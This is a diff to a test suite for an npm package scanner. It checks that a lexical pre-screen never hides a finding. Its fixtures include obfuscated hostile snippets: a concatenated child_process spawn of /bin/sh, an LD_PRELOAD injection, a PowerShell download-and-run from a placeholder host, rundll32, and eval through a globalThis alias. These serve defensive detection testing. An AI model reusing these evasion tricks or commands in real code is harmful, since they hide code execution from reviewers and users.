@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { scanTarball, severityRank, type ScanReport, type Severity } from '../../helper/src/scan/index.js';
+import { setPrescreen } from '../../helper/src/scan/js/prescreen.js';
 import { packTree, tempDir, type Tree } from './support.js';
 
 // Cases written here from the attack descriptions of issue 12, not copied from any rule set. Every payload is
@@ -11,8 +12,17 @@ beforeAll(async () => {
 afterAll(() => work.cleanup());
 
 let n = 0;
+/** Scans a package, and scans it again with the lexical pre-screen off: every case here must agree both ways. */
 async function scan(manifest: Record<string, unknown>, files: Tree = {}): Promise<ScanReport> {
-  return scanTarball(await packTree(work.dir, `code-${n++}`, manifest, files));
+  const tgz = await packTree(work.dir, `code-${n++}`, manifest, files);
+  const report = await scanTarball(tgz);
+  setPrescreen(false);
+  try {
+    expect(await scanTarball(tgz)).toEqual(report);
+  } finally {
+    setPrescreen(true);
+  }
+  return report;
 }
 /** The worst severity a rule reached, or 'none'. */
 function worst(r: ScanReport, rule: string): Severity | 'none' {
@@ -198,6 +208,26 @@ describe('code analysis: 2025-2026 worms and compromises (kinds 11, 12)', () => 
       'medium c: github:someone/c',
       'low e: git+https://example.invalid/e.git',
     ]);
+  });
+});
+
+describe('code analysis: the lexical pre-screen lets through every file a finding can come from', () => {
+  // Each file below holds none of the atoms of the earlier pre-screen; each is flagged with the pre-screen on.
+  it('a module name built by concatenation', async () => {
+    expect(worst(await onRequire("var m = require('child_' + 'process');\nm.spawn('/bin/sh', ['-c', 'id']);\n"), 'code-hidden-api')).toBe('high');
+  });
+
+  it('a string decoded by unescape into a template', async () => {
+    expect(worst(await onRequire("module.exports = `${unescape('LD%5FPRELOAD')}=/tmp/x`;\n"), 'code-library-hijack')).toBe('high');
+  });
+
+  it('a PowerShell download and start, and rundll32 in capitals', async () => {
+    expect(worst(await onRequire('module.exports = \'powershell -c "iwr https://example.invalid/a.exe -OutFile a.exe; Start-Process a.exe"\';\n'), 'code-download-exec')).toBe('medium');
+    expect(worst(await onRequire("module.exports = 'RUNDLL32.EXE payload.bin,Start';\n"), 'code-library-hijack')).toBe('medium');
+  });
+
+  it('an inflated payload evaluated through an alias of the global object', async () => {
+    expect(worst(await onRequire("const g = globalThis, z = require('zlib');\nmodule.exports = (d) => g['ev' + 'al'](z.inflateSync(d).toString());\n"), 'code-remote-eval')).toBe('high');
   });
 });
 
